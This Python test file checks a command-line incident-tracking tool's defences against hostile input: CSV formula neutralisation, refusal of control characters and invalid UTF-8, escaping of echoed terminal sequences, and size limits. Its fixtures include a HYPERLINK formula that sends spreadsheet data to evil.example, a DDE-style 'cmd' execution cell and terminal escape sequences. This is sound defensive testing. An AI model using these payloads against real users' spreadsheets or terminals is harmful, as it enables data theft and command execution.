# SPDX-License-Identifier: Apache-2.0
"""Hostile input (issue 6): text pasted from spreadsheets, terminals and web pages. Formulas are
neutralised in CSV output and come back unchanged on import; control characters and invalid UTF-8
in any field are refused naming the option or file:line:column (or, for tabs and line breaks in
free text, stored and rendered safely); echoed input cannot drive the terminal; very long fields
and huge specs are refused with a message naming the limit. Never a crash."""
import csv
import io
import json
import os
import subprocess
import time
import unittest

from harness import BIN, DutyTest, count_bad_input, report_bad_input_cases
from incident_support import IncidentTest

ADD = ("--category", "flood", "--received", "2026-11-20 10:00")  # after `incident add` (self.add adds it)

# Cells a spreadsheet would run, and what the CSV must hold instead.
FORMULAS = {
    '=HYPERLINK("http://evil.example/?"&A1,"click")': '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+86 139 0000 0000": "'+86 139 0000 0000",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "'=already protected": "''=already protected",
}
# A tab can start only free text (a title, a place or a source is one line): it goes in a note.
TAB_FORMULA = ("\t=1+1", "'\t=1+1")

CONTROLS = {"ESC": "\x1b[31mred", "BEL": "ring\x07", "CR": "over\rwrite", "DEL": "del\x7f",
            "C1 CSI": "csi\u009b31m", "backspace": "a\bb", "vertical tab": "a\x0bb"}
ONE_LINE = ("--title", "--location", "--source", "--by")  # the rest is free text


def refusal(option, text):
    """The message for the first control character of `text` in `option`, named as U+XXXX."""
    c = next(c for c in text if ord(c) < 0x20 or 0x7f <= ord(c) <= 0x9f)
    name = f"U+{ord(c):04X}"
    if option not in ONE_LINE:
        return f"{option}: contains the control character {name}; only text, tabs and line breaks are accepted"
    if c in "\r\n":
        return f"{option}: contains a line break ({name}); give one line of text"
    return f"{option}: contains the control character {name}; only one line of text is accepted"


def no_terminal_controls(text):
    """True when text holds nothing a terminal would act on but line breaks and tabs."""
    return not any((ord(c) < 0x20 and c not in "\n\t") or 0x7f <= ord(c) <= 0x9f for c in text)


class CsvInjectionTest(IncidentTest):
    def setUp(self):
        super().setUp()
        self.make_workspace()
        for n, formula in enumerate(FORMULAS):
            self.add("--category", "flood", "--title", formula, "--location", formula, "--source", formula,
                     "--note", formula, "--received", f"2026-11-20 1{n}:00")
        self.add("--category", "flood", "--title", "tab", "--note", TAB_FORMULA[0], "--actions", TAB_FORMULA[0],
                 "--received", "2026-11-20 19:00")

    def test_list_and_export_neutralise_formulas(self):
        for args in (("incident", "list", "--format", "csv"), ("incident", "export", "--format", "csv")):
            with self.subTest(command=args[1]):
                rows = list(csv.DictReader(io.StringIO(self.ok(*args).out, newline="")))
                self.assertEqual([r["title"] for r in rows], [*FORMULAS.values(), "tab"])
                for row in rows:
                    for column, cell in row.items():
                        if cell and cell.lstrip("'")[:1] in ("=", "+", "-", "@", "\t", "\r"):
                            self.assertTrue(cell.startswith("'"), f"{column}: {cell!r}")
                if args[1] == "export":
                    self.assertEqual([r["location"] for r in rows], [*FORMULAS.values(), ""])
                    self.assertEqual([r["source"] for r in rows], [*FORMULAS.values(), ""])
                    self.assertEqual((rows[-1]["note"], rows[-1]["actions"]), (TAB_FORMULA[1], TAB_FORMULA[1]))

    def test_an_exported_csv_imports_back_unchanged(self):
        self.write("export.csv", self.ok("incident", "export", "--format", "csv").out)
        other = self.make_workspace(where=self.tmp / "other")
        self.assertExit(self.d("incident", "import", "export.csv", ws=other), 0)
        incidents = self.export_json(ws=other)
        self.assertEqual([i["title"] for i in incidents], [*FORMULAS, "tab"])
        self.assertEqual([i["location"] for i in incidents], [*FORMULAS, ""])
        self.assertEqual([i["source"] for i in incidents], [*FORMULAS, ""])
        self.assertEqual((incidents[-1]["description"], incidents[-1]["actions"]), (TAB_FORMULA[0], TAB_FORMULA[0]))


class ControlCharacterTest(IncidentTest):
    def setUp(self):
        super().setUp()
        self.make_workspace()
        self.add(*ADD, "--title", "existing")
        self.before = self.snapshot()

    def assertRefused(self, r, message):
        count_bad_input()
        self.assertExit(r, 2)
        self.assertEqual(r.out, "")
        self.assertEqual(r.err, f"duty: error: {message}\n")

    def assertUnchanged(self):
        """Nothing a refused command ran into was written (checked once per test: a snapshot is
        three runs)."""
        self.assertEqual(self.snapshot(), self.before)

    def test_control_characters_in_options_are_refused_naming_the_option(self):
        for option in ("--title", "--location", "--source", "--note", "--actions", "--by"):
            for name, text in CONTROLS.items():
                with self.subTest(option=option, control=name):
                    args = (*ADD, "--title", "t", option, text) if option != "--title" else (*ADD, option, text)
                    self.assertRefused(self.d("incident", "add", *args), refusal(option, text))
        for name, text in CONTROLS.items():
            with self.subTest(option="update --note", control=name):
                self.assertRefused(self.d("incident", "update", "2026-0001", "--note", text),
                                   refusal("--note", text))
        self.assertUnchanged()

    def test_invalid_utf8_in_options_is_refused_naming_the_option(self):
        for option in ("--title", "--location", "--note"):
            with self.subTest(option=option):
                args = [*ADD, "--title", "t", option] if option != "--title" else [*ADD, option]
                p = subprocess.run([BIN, "--office", str(self.ws), "incident", "add", *args, b"Lat\xe9 bad \xff\xfe"],
                                   capture_output=True, env={**os.environ, "LC_ALL": "C.UTF-8"})
                self.assertEqual(p.returncode, 2, p)
                self.assertEqual(p.stderr, f"duty: error: {option}: is not valid UTF-8 text\n".encode())
        self.assertEqual(self.snapshot(), self.before)

    def test_the_author_must_be_plain_text(self):
        for value, message in (("clerk\x1b[2J", "contains the control character U+001B; only one line of text is "
                                                "accepted (the name of the person entering this)"),
                               ("x" * 201, "is too long (201 bytes; the limit is 200)")):
            with self.subTest(value=value[:10]):
                self.assertRefused(self.d("--by-user", value, "incident", "add", *ADD, "--title", "t"),
                                   f"--by-user: {message}")
        self.assertUnchanged()

    def test_echoed_input_cannot_drive_the_terminal(self):
        # An id or option value is quoted back in the message: its control bytes are shown escaped.
        r = self.d("incident", "show", "2026-\x1b]0;owned\x07\u009b2J")
        self.assertExit(r, 2)
        self.assertEqual(r.err, "duty: error: no incident '2026-\\u{1b}]0;owned\\u{07}\\u{9b}2J'; 'duty incident "
                                "list' shows them\n")
        r = self.d("incident", "escalate", "2026-0001", "--to", "\x1b[31mprefecture", "--via", "phone")
        self.assertExit(r, 2)
        self.assertTrue(r.err.startswith("duty: error: --to: unknown organisation '\\u{1b}[31mprefecture'"), r.err)
        for args in (("incident", "\x1b[2Jlist"), ("incident", "list", "--format", "\x1b[2J")):
            with self.subTest(args=args):
                r = self.d(*args)
                self.assertExit(r, 2)
                self.assertTrue(no_terminal_controls(r.err), repr(r.err))
                self.assertIn("\\u{1b}[2J", r.err)

    def test_tabs_and_line_breaks_in_free_text_are_kept_and_rendered_safely(self):
        note = "first line\n\tindented \"quoted\" \\ back\u2028separator 泽库"
        # A title is one line (e2e.value_attacks); the measures taken are free text like the note.
        incident = self.add(*ADD, "--title", "one line", "--actions", "multi\nline\tactions", "--note", note)
        shown = self.show(incident)
        self.assertEqual(shown["actions"], "multi\nline\tactions")
        self.assertEqual(shown["description"], note)
        # Every output format holds it without a raw control character but the line breaks and tabs
        # a format quotes (CSV) or escapes (JSON).
        for args in (("incident", "list", "--format", "json"), ("incident", "export", "--format", "json"),
                     ("incident", "show", incident, "--format", "json")):
            with self.subTest(args=args):
                text = self.ok(*args).out
                self.assertNotIn("\t", text)
                json.loads(text)
        rows = list(csv.DictReader(io.StringIO(self.ok("incident", "export", "--format", "csv").out, newline="")))
        self.assertEqual(rows[-1]["actions"], "multi\nline\tactions")
        self.assertEqual(rows[-1]["note"], note)
        # Both export formats import back unchanged, line breaks and tabs included (the CSV, a flat
        # table, while the incident has no history it would lose).
        for fmt in ("csv", "yaml"):
            if fmt == "yaml":
                self.ok("incident", "escalate", incident, "--to", "prefecture", "--via", "phone", "--note",
                        "told\n\tZhao")
            with self.subTest(round_trip=fmt):
                self.write(f"export.{fmt}", self.ok("incident", "export", "--format", fmt).out)
                other = self.make_workspace(where=self.tmp / f"other-{fmt}")
                self.assertExit(self.d("incident", "import", f"export.{fmt}", ws=other), 0)
                again = self.export_json(ws=other)[-1]
                self.assertEqual((again["actions"], again["description"]), ("multi\nline\tactions", note))
                if fmt == "yaml":
                    self.assertEqual([e.get("note") for e in again["events"] if e["type"] == "escalation"],
                                     ["told\n\tZhao"])
        # A table row stays one line, whatever the fields hold.
        table = self.duty_on_terminal("--office", self.ws, "incident", "list", "--format", "table")
        self.assertExit(table, 0)
        self.assertEqual(len(table.out.splitlines()), 3, table.out)
        self.assertTrue(no_terminal_controls(table.out.replace("\t", "")), repr(table.out))


class LongFieldTest(IncidentTest):
    def setUp(self):
        super().setUp()
        self.make_workspace()

    def test_text_up_to_the_limit_is_kept_and_beyond_it_refused(self):
        at_limit = ("泽" * 21845) + "x"  # 65,536 bytes
        incident = self.add(*ADD, "--title", "long", "--note", at_limit)
        self.assertEqual(self.show(incident)["description"], at_limit)
        r = self.d("incident", "add", *ADD, "--title", "t", "--note", at_limit + "z")
        self.assertExit(r, 2)
        self.assertEqual(r.err, "duty: error: --note: is too long (65537 bytes; the limit is 65536, 64 KiB)\n")

    def test_a_huge_field_in_an_import_is_refused_at_its_place_with_a_short_message(self):
        self.write("big.yaml", "- title: ok\n  category: flood\n  received: 2026-11-20 10:00\n"
                               "- title: big\n  category: flood\n  received: 2026-11-20 10:00\n"
                               f"  note: {'n' * 2_000_000}\n")
        r = self.d("incident", "import", "big.yaml")
        self.assertExit(r, 2)
        self.assertEqual(r.err.splitlines()[0], f"duty: error: big.yaml:4:3: note: is too long (2000000 bytes; the "
                                                "limit is 65536, 64 KiB)")
        # The offending line is quoted around the column, not whole.
        self.assertLess(len(r.err), 1000)
        self.assertEqual(self.ok("incident", "list", "--format", "json").json(), [])


class ImportHostileTest(IncidentTest):
    def setUp(self):
        super().setUp()
        self.make_workspace()

    def run_import(self, name, data):
        (self.tmp / name).write_bytes(data)
        r = self.d("incident", "import", name)
        count_bad_input()
        self.assertExit(r, 2)
        self.assertEqual(r.out, "")
        self.assertTrue(no_terminal_controls(r.err), repr(r.err))
        self.assertEqual(self.ok("incident", "list", "--format", "json").json(), [])
        return r.err.splitlines()

    def test_control_characters_in_a_csv(self):
        err = self.run_import("c.csv", b"title,category,received\nok,flood,2026-11-20 10:00\n"
                                       b"bad\x1b[2J,flood,2026-11-20 10:00\nfine,flood,2026-11-20 10:00\n")
        self.assertEqual(err[0], "duty: error: c.csv:3:1: title: contains the control character U+001B; only one "
                                 "line of text is accepted")

    def test_invalid_utf8_in_a_csv(self):
        err = self.run_import("u.csv", b"title,category,received,location\nok,flood,2026-11-20 10:00,\xc3\x28\n")
        self.assertEqual(err[0], "duty: error: u.csv:2:27: location: is not valid UTF-8 text")

    def test_control_characters_in_yaml(self):
        err = self.run_import("c.yaml", b'- {title: ok, category: flood, received: 2026-11-20 10:00}\n'
                                        b'- {title: "bad\\e[2J", category: flood, received: 2026-11-20 10:00}\n')
        self.assertIn("duty: error: c.yaml:2:11: title contains the control character U+001B; only one line of text "
                      "is accepted", err)

    def test_invalid_utf8_in_yaml(self):
        err = self.run_import("u.yaml", b"- {title: ok, category: flood, received: 2026-11-20 10:00}\n"
                                        b"- {title: bad \xff\xfe here, category: flood, received: 2026-11-20 10:00}\n")
        self.assertTrue(err[0].startswith("duty: error: u.yaml:2:"), err)

    def test_binary_garbage(self):
        for name in ("g.csv", "g.yaml"):
            with self.subTest(name=name):
                err = self.run_import(name, bytes(range(256)) * 4)
                self.assertTrue(err[0].startswith(f"duty: error: {name}:"), err)


class HostileSpecTest(DutyTest):
    HEAD = ("timezone: Asia/Shanghai\nperiod: {from: 2027-02-01, to: 2027-02-03}\n"
            "slots:\n  - {id: officer, group: staff, count: 1}\npeople:\n")

    def build(self, text, *args):
        if isinstance(text, str):
            text = text.encode()
        (self.tmp / "spec.yaml").write_bytes(text)
        count_bad_input()
        return self.duty("roster", "build", "spec.yaml", "--format", "json", *args, timeout=600)

    def test_control_characters_and_invalid_utf8_in_names(self):
        for value, what in ((b'"Ann\\e[2J"', "contains the control character U+001B"),
                            (b'"Ann\\u009b2J"', "contains the control character U+009B"),
                            (b"Ann \xff\xfe", "is not valid UTF-8")):
            with self.subTest(value=value):
                r = self.build(self.HEAD.encode() + b"  - {id: ann, name: " + value + b", groups: [staff]}\n")
                self.assertExit(r, 2)
                self.assertEqual(r.out, "")
                first = r.err.splitlines()[0]
                self.assertTrue(first.startswith("duty: error: spec.yaml:6:"), r.err)
                self.assertIn(what, first)
                self.assertTrue(no_terminal_controls(r.err), repr(r.err))

    def test_a_very_long_name_is_shown_around_the_column(self):
        r = self.build(self.HEAD + f"  - {{id: ann, name: {'A' * 100000}, groups: [staf]}}\n")
        self.assertExit(r, 2)
        self.assertIn("spec.yaml:6:100032: unknown group 'staf'", r.err)
        self.assertLess(len(r.err), 1000)

    def test_ten_thousand_people_are_handled(self):
        people = "".join(f"  - {{id: p{n}, name: P{n}, groups: [staff]}}\n" for n in range(10000))
        started = time.monotonic()
        r = self.build(self.HEAD + people)
        self.assertExit(r, 0)
        self.assertEqual(len(r.json()["shifts"]), 3)
        print(f"\n10,000-person spec built in {time.monotonic() - started:.1f} s", flush=True)

    def test_more_than_ten_thousand_people_are_refused_naming_the_limit(self):
        people = "".join(f"  - {{id: p{n}, name: P{n}, groups: [staff]}}\n" for n in range(10001))
        r = self.build(self.HEAD + people)
        self.assertExit(r, 2)
        self.assertEqual(r.out, "")
        self.assertIn("10000", r.err.splitlines()[0])
        self.assertIn("spec.yaml:", r.err.splitlines()[0])


tearDownModule = report_bad_input_cases

if __name__ == "__main__":
    unittest.main()
